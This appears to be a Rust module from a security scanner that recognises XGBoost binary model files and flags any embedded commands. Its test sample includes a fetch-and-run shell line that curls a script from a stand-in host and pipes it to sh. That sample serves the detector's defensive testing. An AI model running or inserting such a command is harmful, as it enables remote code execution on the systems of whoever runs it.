//! XGBoost's binary models, old (`binf`) and UBJSON.
//!
//! Nothing in them runs; texts that hold commands or code are reported. JSON models are read as
//! JSON.

use crate::fact::Facts;
use crate::format::{Claim, Format, Item, Probe};
use crate::registry::raw::search;

/// The descriptor.
pub const FORMAT: Format = Format {
    name: "xgboost_bin",
    title: "XGBoost binary model",
    family: "xgboost",
    wants,
    read,
    stream: None,
    head_only: false,
    #[cfg(test)]
    samples: tests::samples,
};

fn wants(probe: &Probe<'_>) -> Option<Claim> {
    let ubjson = probe.starts(b"{L") && probe.head_has("learner");
    (probe.starts(b"binf") || ubjson).then_some(Claim::Magic)
}

fn read(item: &Item<'_>, facts: &mut Facts) {
    search(item, facts);
}

#[cfg(test)]
pub(crate) mod tests {
    use crate::finding::Verdict;
    use crate::vet;

    pub(crate) fn samples() -> Vec<Vec<u8>> {
        vec![
            b"binf\0\0\0\0".to_vec(),
            b"binfos.system('curl http://x.example/p.sh | sh')\0".to_vec(),
        ]
    }

    #[test]
    fn commands_in_it_are_found() {
        let [good, bad] = &samples()[..] else { panic!() };
        assert_eq!(vet("m.bst", good).verdict, Verdict::NothingFound);
        assert!(vet("m.bst", bad).verdict.is_flagged());
    }
}
